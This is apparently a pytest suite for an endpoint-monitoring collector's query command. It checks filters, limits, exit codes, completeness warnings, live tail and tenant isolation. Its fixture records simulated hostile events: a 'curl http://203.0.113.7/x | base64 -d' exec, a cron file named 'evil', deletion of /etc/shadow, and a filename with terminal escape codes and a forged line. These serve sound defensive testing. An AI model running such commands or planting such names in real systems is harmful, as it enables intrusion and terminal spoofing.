# SPDX-License-Identifier: Apache-2.0
"""Questions as responders ask them: filters, limits, exit codes, completeness, live tail, tenants."""
import base64
import json
import signal
import subprocess
import threading
import time

import pytest

import event_pb2
from basics import TooLate, until
from daemons import field
from senders import Sender
from wire import BULK, CRITICAL, Client, Host, event, exec_process

ODD = b"\x1b]0;owned\x07\x1b[2J\xe2\x80\xaegpj.exe\nsecond line\xff"


def net(action, source, destination, port, **kwargs):
    return event(action, net=event_pb2.Net(transport=6, source_ip=bytes(map(int, source.split("."))), source_port=40000,
                                           destination_ip=bytes(map(int, destination.split("."))),
                                           destination_port=port),
                 **{"class": event_pb2.CLASS_TCP}, **kwargs)


def file_event(action, path):
    return event(action, file=event_pb2.File(path=path, inode=42), **{"class": event_pb2.CLASS_FILE_OPEN})


class Story:
    """Two hosts and what they did: known rows to ask for."""

    def __init__(self, lab):
        self.lab, self.collector = lab, lab.collector()
        self.cli = lab.cli(self.collector)
        self.hosts = [Host(lab.site.host(name)) for name in ("web-1", "db-1")]
        self.clients = [Client(host, self.collector.address, lab.site.order_ca) for host in self.hosts]
        lab.clients += self.clients
        web, db = self.hosts
        shell = exec_process(500, b"bash", [b"bash", b"-c", b"curl http://203.0.113.7/x | base64 -d"])
        self.shell = shell
        self.put(0, web.batch([event(event_pb2.ACTION_EXEC, exec=event_pb2.Exec(filename=b"bash"),
                                     **{"class": event_pb2.CLASS_EXEC})], [shell], lane=CRITICAL))
        self.put(0, web.batch([net(event_pb2.ACTION_CONNECT, "10.0.0.5", "203.0.113.7", 443),
                               net(event_pb2.ACTION_CONNECT, "10.0.0.5", "192.0.2.9", 80),
                               file_event(event_pb2.ACTION_CREATE, b"/etc/cron.d/evil"),
                               file_event(event_pb2.ACTION_UNLINK, b"/etc/shadow"),
                               file_event(event_pb2.ACTION_CREATE, b"/tmp/" + ODD)], [shell]))
        self.put(1, db.batch([net(event_pb2.ACTION_ACCEPT, "10.0.0.5", "10.0.0.6", 5432)],
                             [exec_process(77, b"postgres", [b"postgres"])]))
        self.put(1, db.execs(30, b"vacuum"))
        self.watermarks()

    def put(self, which, batch):
        self.clients[which].put(batch)

    def watermarks(self):
        for host, client in zip(self.hosts, self.clients):
            for lane in (CRITICAL, BULK):
                client.send(host.idle(lane))

    def ask(self, *args):
        """Rows; the answer must be complete."""
        def complete():
            self.watermarks()
            answer = self.cli.run("events", "--json", *args)
            assert answer.code != 2, answer.err
            return answer if answer.code in (0, 1) else None
        try:
            return until(complete, 20).rows
        except TooLate:
            pytest.fail(self.cli.run("events", "--json", *args).err)


@pytest.fixture(scope="module")
def story(module_lab):
    return Story(module_lab)


FILTERS = {
    "--action connect": (["--action", "connect"], 2),
    "two actions": (["--action", "connect", "--action", "accept"], 3),
    "--address": (["--address", "203.0.113.7"], 1),
    "--address as network": (["--address", "203.0.113.0/24"], 1),
    "either side": (["--address", "10.0.0.5"], 3),
    "--port": (["--port", "5432"], 1),
    "--path": (["--path", "/etc/shadow"], 1),
    "--path prefix": (["--path", "/etc/*"], 2),
    "--process": (["--process", "postgres"], 1),
    "--exe": (["--exe", "/usr/bin/bash"], 6),
    "--text in arguments": (["--text", "base64 -d"], 6),
    "--text in a path": (["--text", "cron.d"], 1),
    "--host": (["--host", "web-1"], 6),
    "--user": (["--user", "1000"], 37),
    "--where parent": (["--where", "process.pid=77"], 1),
    "--where network": (["--where", "destination.ip=10.0.0.0/24"], 1),
    "both must hold": (["--action", "connect", "--port", "80"], 1),
    "nothing": (["--path", "/nowhere"], 0),
    "future": (["--since", "2100-01-01T00:00:00Z", "--until", "2100-01-02T00:00:00Z"], 0),
    "past": (["--until", "2001-01-01T00:00:00Z"], 0),
    "last minutes": (["--since", "15m", "--action", "connect"], 2),
}


@pytest.mark.parametrize("kind", FILTERS)
def test_filter(kind, story):
    args, n = FILTERS[kind]
    if kind == "future":
        answer = story.cli.run("events", "--json", *args)
        assert answer.rows == []
        return
    assert len(story.ask(*args)) == n


def test_exit_codes(story):
    story.ask()
    assert story.cli.run("events", "--json", "--path", "/nowhere", "--until", "1s").code == 1
    assert story.cli.run("events", "--json", "--action", "connect", "--until", "0s").code in (0, 3)
    for bad in (["--action", "explode"], ["--since", "yesterday"], ["--where", "no.such.field=1"], ["--limit", "-1"],
                ["--address", "300.1.1.1"], ["--frobnicate"], ["--where", "process.pid"]):
        answer = story.cli.run("events", *bad)
        assert answer.code == 2, bad
        assert answer.out == "" and len(answer.err.splitlines()) == 1, (bad, answer.err)
    assert story.cli.run("explode").code == 2


def test_limit_keeps_the_newest_and_says_so(story):
    answer = story.cli.run("events", "--json", "--process", "probe", "--limit", "5")
    assert [row["process"]["args"][1] for row in answer.rows] == [f"vacuum-{i}" for i in range(25, 30)]
    assert "cut by --limit" in answer.err
    story.ask("--process", "probe", "--limit", "30")
    assert "cut by" not in story.cli.run("events", "--json", "--process", "probe", "--limit", "30").err


def test_rows_are_ordered_by_time(story):
    times = [row["@timestamp"] for row in story.ask()]
    assert times == sorted(times) and len(times) == 37


def test_completeness_line(story):
    story.ask()

    def line():  # a second after the hosts were first recorded, "until 1s ago" speaks of them
        answer = story.cli.run("events", "--json", "--action", "connect", "--until", "1s")
        return answer.err if "complete for 2 hosts" in answer.err else None
    until(line, 20)


def test_table_neutralises_what_a_host_wrote(story):
    """Names that would drive a terminal, turn the text around or forge a row."""
    leader = subprocess.run(["script", "-qec", " ".join(map(str, story.cli.command("events", "--path", "'/tmp/*'"))),
                             "/dev/null"], capture_output=True, timeout=30, env={**story.cli.env, "TERM": "xterm",
                                                                                "COLUMNS": "300"})
    shown = leader.stdout
    assert b"owned" in shown
    for dangerous in (b"\x1b]0;", b"\x1b[2J", b"\x07", "\u202e".encode(), b"\xff"):
        assert dangerous not in shown
    assert not any(line.startswith(b"second line") for line in shown.splitlines())


def test_json_keeps_exact_bytes(story):
    row = story.ask("--path", "/tmp/*")[0]
    assert base64.b64decode(field(row, "file.path_base64")) == b"/tmp/" + ODD


def test_pipe_gets_json_without_being_told(story):
    done = subprocess.run(story.cli.command("events", "--action", "accept"), capture_output=True, timeout=30,
                          env=story.cli.env)
    assert [json.loads(line)["event"]["action"] for line in done.stdout.splitlines()] == ["accept"]


def test_gap_makes_an_answer_incomplete(story):
    """A gap among what was asked for: exit status 3 and one line that says what, how many and when."""
    web = story.hosts[0]
    now = time.clock_gettime_ns(time.CLOCK_BOOTTIME)
    lost = event(event_pb2.ACTION_GAP, 0, gap=event_pb2.Gap(where=event_pb2.GAP_RING, cpu=1, count=17, **{
        "class": event_pb2.CLASS_UDP}, from_ns=now - 1000, to_ns=now), **{"class": event_pb2.CLASS_AGENT})
    story.put(0, web.batch([lost], lane=CRITICAL, gaps=1))
    story.watermarks()
    answer = story.cli.run("events", "--json", "--action", "udp_flow")
    assert answer.code == 3
    assert "17" in answer.err and "udp" in answer.err and "web-1" in answer.err, answer.err
    # Who did not ask for that class is not bothered.
    assert story.ask("--action", "connect")


def test_missing_number_makes_an_answer_incomplete(lab):
    collector, host = lab.collector(), lab.host()
    with Client(host, collector.address, lab.site.order_ca) as client:
        client.put(host.execs(2, b"hole", first=0))
        host.execs(2, b"hole", first=2)  # sealed, never sent
        client.put(host.execs(2, b"hole", first=4))
        answer = lab.cli(collector).run("events", "--json", "--action", "exec")
    assert answer.code == 3
    assert len(answer.rows) == 4
    assert "not arrived" in answer.err


def test_enrolled_host_that_never_sent_is_missed(lab, site, tmp_path):
    """Completeness counts the hosts that are registered, not those that talk."""
    folder = tmp_path / "hosts"
    folder.mkdir()
    for name in ("talks", "silent"):
        (folder / f"{name}.record").write_bytes(site.host(name).record.read_bytes())
    collector = lab.collector(hosts__dir=folder)
    host = Host(site.host("talks"))
    with Client(host, collector.address, lab.site.order_ca) as client:
        client.put(host.execs(1, b"talks"))
        client.send(host.idle(BULK))
        answer = lab.cli(collector).run("events", "--json")
    assert answer.code == 3
    assert "silent" in answer.err or "2 hosts" in answer.err, answer.err


def test_tail_shows_what_arrives(story):
    tail = story.cli.popen("tail", "--json", "--process", "probe")
    rows = []
    reader = threading.Thread(target=lambda: rows.extend(map(json.loads, tail.stdout)), daemon=True)
    reader.start()
    try:
        db = story.hosts[1]
        for i in range(100, 130):
            story.put(1, db.execs(1, b"live", first=i))
            if rows:
                break
            time.sleep(0.1)
        until(lambda: any(row["process"]["args"][1].startswith("live-") for row in rows), 20, "a live row")
        # Only what arrives from now on, and only what matches.
        assert all(field(row, "process.name") == "probe" for row in rows)
        assert not any(row["process"]["args"][1].startswith("vacuum-") for row in rows)
    finally:
        tail.send_signal(signal.SIGINT)
        tail.wait(20)


def test_queries_while_ingesting(lab):
    """Each answer holds what was acknowledged before it was asked, in order, and nothing twice."""
    collector = lab.collector(store__segment_bytes="1MiB")
    sender = Sender(lab.host(), collector.address, lab.site.order_ca, b"flow", per_batch=50)
    sender.start()
    cli = lab.cli(collector)
    until(lambda: sender.acknowledged_events, 20, "the first acknowledgement")
    for _ in range(5):
        before = sender.acknowledged_events
        said = [row["process"]["args"][1] for row in cli.events("--action", "exec", "--text", "flow-")]
        assert len(said) >= before
        assert said == [f"flow-{i}" for i in range(len(said))]
    sender.finish()


def test_other_tenant_sees_nothing(lab, site):
    """A responder asks for his own tenant, whatever he asks."""
    collector, host = lab.collector(), lab.host()
    with Client(host, collector.address, lab.site.order_ca) as client:
        client.put(host.execs(3, b"secret"))
        stranger = lab.cli(collector, site.responder("mallory", tenant="globex"))
        for question in (["events"], ["events", "--host", host.identity.host_id], ["hosts"], ["coverage"],
                         ["tree", "--pid", "10000", "--host", host.identity.host_id]):
            answer = stranger.run(*question, "--json")
            assert answer.code in (1, 2, 3), question
            assert "secret" not in answer.out and host.identity.host_id not in answer.out


def test_reader_that_stops_reading_harms_nobody(lab):
    """A pipe that nobody empties: the collector's memory stays, others are answered."""
    collector, host = lab.collector(), lab.host()
    with Client(host, collector.address, lab.site.order_ca) as client:
        for i in range(30):
            client.put(host.creates(1000, b"/lazy/%d", first=1000 * i))
        cli = lab.cli(collector)
        lazy = [cli.popen("events", "--json", "--limit", "0") for _ in range(4)]
        try:
            time.sleep(1)
            assert len(cli.events("--action", "create", "--limit", "3")) >= 3
            assert collector.memory_peak() < 512 << 20
        finally:
            for process in lazy:
                process.kill()
                process.communicate()
